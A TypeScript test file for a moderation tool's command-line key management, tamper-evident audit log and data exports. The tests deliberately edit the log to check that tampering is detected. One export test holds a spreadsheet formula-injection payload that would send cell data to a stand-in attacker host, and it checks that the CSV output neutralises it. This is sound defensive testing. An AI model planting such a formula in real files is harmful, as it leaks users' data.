/**
 * The audit trail and evidence exports through the command line (in process, on a real database
 * file): `keys create|list|revoke`, `audit verify` passing on an intact log and catching entries that
 * were edited or removed straight in the SQLite file, and `export` as JSONL and CSV (also over HTTP).
 */
import fs from 'node:fs';
import path from 'node:path';
import { PassThrough } from 'node:stream';
import Database from 'better-sqlite3';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { main } from '../../src/cli/main.js';
import type { Runtime } from '../../src/runtime.js';
import { CSV_COLUMNS } from '../../src/services/export-service.js';
import { createKey } from '../helpers/auth.js';
import { type LiveServer, call, listen } from '../helpers/live-server.js';
import { reviewPosts, storePosts } from '../helpers/review-fixtures.js';
import { tempDir, testRuntime } from '../helpers/runtime.js';

async function cli(args: string[], db: string): Promise<{ code: number; stdout: string; stderr: string }> {
  const stdout = new PassThrough();
  const stderr = new PassThrough();
  const out: Buffer[] = [];
  const err: Buffer[] = [];
  stdout.on('data', (d: Buffer) => out.push(d));
  stderr.on('data', (d: Buffer) => err.push(d));
  const code = await main([...args, '--db', db], { stdin: new PassThrough(), stdout, stderr, env: { RABAT_CONTENT_MODEL: '', RABAT_LOG_LEVEL: 'silent' } });
  return { code, stdout: Buffer.concat(out).toString('utf8'), stderr: Buffer.concat(err).toString('utf8') };
}

let rt: Runtime;
let srv: LiveServer;
let db: string;

beforeAll(async () => {
  rt = await testRuntime();
  db = rt.config.dbPath;
  await storePosts(rt, reviewPosts(12, 'au'));
  srv = await listen(rt);
  const m1 = createKey(rt, 'moderator', 'Amina');
  const m2 = createKey(rt, 'moderator', 'Bruno');
  const admin = createKey(rt, 'admin', 'Root');
  await call(srv.url, m1, 'POST', '/api/queue/claim', { n: 3 });
  await call(srv.url, m1, 'POST', '/api/items/au-001/decisions', { action: 'relabel', level: 'incitement', note: 'a, "quoted"\nnote', factor_overrides: { likelihood: { score: 0.8 } } });
  await call(srv.url, m2, 'POST', '/api/items/au-001/decisions', { action: 'confirm' });
  await call(srv.url, m2, 'POST', '/api/items/au-002/decisions', { action: 'reject' });
  await call(srv.url, admin, 'PUT', '/api/speakers/spk-even', { name: 'Even Speaker', role: 'official' });
});
afterAll(async () => {
  await srv.close();
  await rt.close();
});

/** Copies the database (after a checkpoint) so each tampering starts from the intact log. */
function copyDb(): string {
  rt.db!.pragma('wal_checkpoint(TRUNCATE)');
  const copy = path.join(tempDir(), 'copy.db');
  fs.copyFileSync(db, copy);
  return copy;
}

/** Edits a database file behind the application's back, the way someone with the file could. */
function tamper(file: string, sql: string[]): void {
  const raw = new Database(file);
  raw.exec('DROP TRIGGER IF EXISTS audit_log_append_only_update; DROP TRIGGER IF EXISTS audit_log_append_only_delete;');
  for (const s of sql) raw.exec(s);
  raw.close();
}

describe('keys from the command line', () => {
  it('creates a key shown once, lists keys without secrets, revokes one', async () => {
    const created = await cli(['keys', 'create', '--role', 'admin', '--name', 'First Admin'], db);
    expect(created.code).toBe(0);
    const k = JSON.parse(created.stdout.split('\n')[0]!) as { id: string; key: string; role: string };
    expect(k.role).toBe('admin');
    expect((await call(srv.url, k.key, 'GET', '/api/keys')).status).toBe(200);
    const list = await cli(['keys', 'list'], db);
    expect(list.stdout).toContain('First Admin');
    expect(list.stdout).not.toContain(k.key);
    expect((await cli(['keys', 'revoke', k.id], db)).code).toBe(0);
    expect((await call(srv.url, k.key, 'GET', '/api/keys')).status).toBe(401);
    const bad = await cli(['keys', 'create', '--role', 'root'], db);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toMatch(/--role admin\|moderator\|ingest\|viewer/);
  });
});

describe('audit verify', () => {
  it('passes on the intact log, which recorded every kind of change', async () => {
    const r = await cli(['audit', 'verify'], db);
    expect(r.stdout).toMatch(/^audit log OK: \d+ entries, head \d+ [0-9a-f]{64}$/m);
    expect(r.code).toBe(0);
    const actions = new Set((rt.db!.prepare('SELECT action FROM audit_log').all() as { action: string }[]).map((x) => x.action));
    for (const a of ['items.stored', 'key.created', 'key.revoked', 'claim', 'decision', 'speaker.upserted']) expect(actions).toContain(a);
    // The log holds ids and hashes, never post text.
    const dump = JSON.stringify(rt.db!.prepare('SELECT * FROM audit_log').all());
    expect(dump).not.toContain('vermin');
    expect(dump).not.toContain('reading room');
  });

  it('names the key that submitted items over the API, and cli for the command line', async () => {
    const ingest = createKey(rt, 'ingest');
    const me = await call<{ key_id: string }>(srv.url, ingest, 'GET', '/api/me');
    expect((await call(srv.url, ingest, 'POST', '/api/items', [{ id: 'au-api-1', text: 'A new bridge opened downtown.' }])).status).toBe(200);
    const entry = rt.db!.prepare("SELECT actor, data_json FROM audit_log WHERE action = 'items.stored' ORDER BY id DESC LIMIT 1").get() as { actor: string; data_json: string };
    expect(entry.actor).toBe(me.body.key_id);
    expect(JSON.parse(entry.data_json)).toMatchObject({ items: [{ id: 'au-api-1', outcome: 'created' }] });
    const first = rt.db!.prepare("SELECT actor FROM audit_log WHERE action = 'items.stored' ORDER BY id LIMIT 1").get() as { actor: string };
    expect(first.actor).toBe('cli');
  });

  it('records speaker changes made from the command line', async () => {
    expect((await cli(['speakers', 'add', 'spk-cli', '--name', 'Added From CLI', '--role', 'official'], db)).code).toBe(0);
    const e = rt.db!.prepare("SELECT actor, subject FROM audit_log WHERE action = 'speaker.upserted' ORDER BY id DESC LIMIT 1").get();
    expect(e).toEqual({ actor: 'cli', subject: 'speaker:spk-cli' });
  });

  it('refuses edits through SQL while its triggers stand', () => {
    expect(() => rt.db!.prepare("UPDATE audit_log SET actor = 'x' WHERE id = 1").run()).toThrow(/append-only/);
    expect(() => rt.db!.prepare('DELETE FROM audit_log WHERE id = 1').run()).toThrow(/append-only/);
  });

  it('detects an edited entry', async () => {
    const copy = copyDb();
    const id = (rt.db!.prepare("SELECT id FROM audit_log WHERE action = 'decision' ORDER BY id LIMIT 1").get() as { id: number }).id;
    tamper(copy, [`UPDATE audit_log SET data_json = replace(data_json, '"incitement"', '"hate"') WHERE id = ${id}`]);
    const r = await cli(['audit', 'verify'], copy);
    expect(r.code).toBe(1);
    expect(r.stdout).toContain(`problem at entry ${id}: hash does not match the entry (the entry was edited)`);
    expect(r.stdout).toMatch(/audit log BROKEN/);
  });

  it('detects an edited entry whose hash was recomputed, by the broken link after it', async () => {
    const copy = copyDb();
    tamper(copy, [`UPDATE audit_log SET actor = 'someone-else', hash = '${'a'.repeat(64)}' WHERE id = 2`]);
    const r = await cli(['audit', 'verify'], copy);
    expect(r.code).toBe(1);
    expect(r.stdout).toContain('problem at entry 3: prev_hash does not match');
  });

  it('detects a removed entry in the middle and a removed decision entry at the tail', async () => {
    const middle = copyDb();
    tamper(middle, ['DELETE FROM audit_log WHERE id = 3']);
    const r = await cli(['audit', 'verify'], middle);
    expect(r.code).toBe(1);
    expect(r.stdout).toContain('problem at entry 4: entry 3 is missing');

    const tail = copyDb();
    const last = (rt.db!.prepare("SELECT MAX(id) AS id FROM audit_log WHERE action = 'decision'").get() as { id: number }).id;
    tamper(tail, [`DELETE FROM audit_log WHERE id >= ${last}`]);
    const t = await cli(['audit', 'verify', '--json'], tail);
    expect(t.code).toBe(1);
    const v = JSON.parse(t.stdout) as { ok: boolean; problems: { problem: string }[] };
    expect(v.ok).toBe(false);
    expect(v.problems.map((p) => p.problem).join('\n')).toMatch(/decision \d+ has no audit entry/);
  });

  it('detects a truncated tail against a head recorded earlier', async () => {
    const head = (rt.db!.prepare('SELECT hash FROM audit_log ORDER BY id DESC LIMIT 1').get() as { hash: string }).hash;
    const copy = copyDb();
    expect((await cli(['audit', 'verify', '--expect-head', head], copy)).code).toBe(0);
    tamper(copy, ['DELETE FROM audit_log WHERE id = (SELECT MAX(id) FROM audit_log)']);
    const r = await cli(['audit', 'verify', '--expect-head', head], copy);
    expect(r.code).toBe(1);
    expect(r.stdout).toContain(`the expected head ${head} is not in the chain`);
  });
});

// 12 posts from beforeAll and one submitted over the API in the audit tests: 13 items (14 after the
// formula test adds one).
describe('exports', () => {
  it('writes every item as JSONL with scores, evidence, review state and decisions', async () => {
    const out = path.join(tempDir(), 'package.jsonl');
    const r = await cli(['export', '--format', 'jsonl', '--out', out], db);
    expect(r.code).toBe(0);
    expect(r.stderr).toMatch(/exported 13 items \(jsonl\); audit head \d+ [0-9a-f]{64}/);
    const lines = fs.readFileSync(out, 'utf8').trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(lines).toHaveLength(13);
    const one = lines.find((l) => l.id === 'au-001') as { text: string; result: { factors: Record<string, { evidence: unknown[] }> }; review: unknown; decisions: { action: string; factor_overrides: unknown }[] };
    expect(one.text).toContain('vermin');
    expect(Object.keys(one.result.factors).sort()).toEqual(['content', 'context', 'extent', 'intent', 'likelihood', 'speaker']);
    expect(one.review).toEqual({ state: 'confirmed', level: 'incitement' });
    expect(one.decisions.map((d) => d.action)).toEqual(['relabel', 'confirm']);
    expect(one.decisions[0]!.factor_overrides).toEqual({ likelihood: { score: 0.8 } });
  });

  it('writes CSV that a CSV reader parses back, one row per item, quoting notes safely', async () => {
    const r = await cli(['export', '--format', 'csv'], db);
    expect(r.code).toBe(0);
    const rows = parse(r.stdout, { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(13);
    expect(Object.keys(rows[0]!)).toEqual([...CSV_COLUMNS]);
    const one = rows.find((x) => x.id === 'au-001')!;
    expect(one.review_state).toBe('confirmed');
    expect(one.decision_count).toBe('2');
    expect(one.decisions).toContain('a, "quoted"\nnote');
    expect(rows.find((x) => x.id === 'au-002')!.review_state).toBe('rejected');
  });

  it('defuses CSV cells a spreadsheet would run as formulas, and keeps them exact in JSONL', async () => {
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    await call(srv.url, createKey(rt, 'ingest'), 'POST', '/api/items', [{ id: 'au-formula', text: formula }]);
    const csv = parse((await cli(['export', '--format', 'csv'], db)).stdout, { columns: true }) as Record<string, string>[];
    expect(csv.find((x) => x.id === 'au-formula')!.text).toBe(`'${formula}`);
    const jsonl = (await cli(['export'], db)).stdout.trim().split('\n').map((l) => JSON.parse(l) as { id: string; text: string });
    expect(jsonl.find((x) => x.id === 'au-formula')!.text).toBe(formula);
  });

  it('serves exports over HTTP to moderators, not to viewers, and audits them', async () => {
    const m = createKey(rt, 'moderator');
    const res = await fetch(`${srv.url}/api/export?format=csv`, { headers: { authorization: `Bearer ${m}` } });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(res.headers.get('content-disposition')).toMatch(/attachment; filename="rabat-triage-export-.*\.csv"/);
    expect((parse(await res.text(), { columns: true }) as unknown[]).length).toBe(14);
    const jsonl = await fetch(`${srv.url}/api/export`, { headers: { authorization: `Bearer ${m}` } });
    expect((await jsonl.text()).trim().split('\n')).toHaveLength(14);
    expect((await call(srv.url, createKey(rt, 'viewer'), 'GET', '/api/export?format=csv')).status).toBe(403);
    expect((await call(srv.url, m, 'GET', '/api/export?format=xml')).status).toBe(400);
    const exports = rt.db!.prepare("SELECT COUNT(*) AS n FROM audit_log WHERE action = 'export'").get() as { n: number };
    expect(exports.n).toBeGreaterThanOrEqual(4);
  });
});
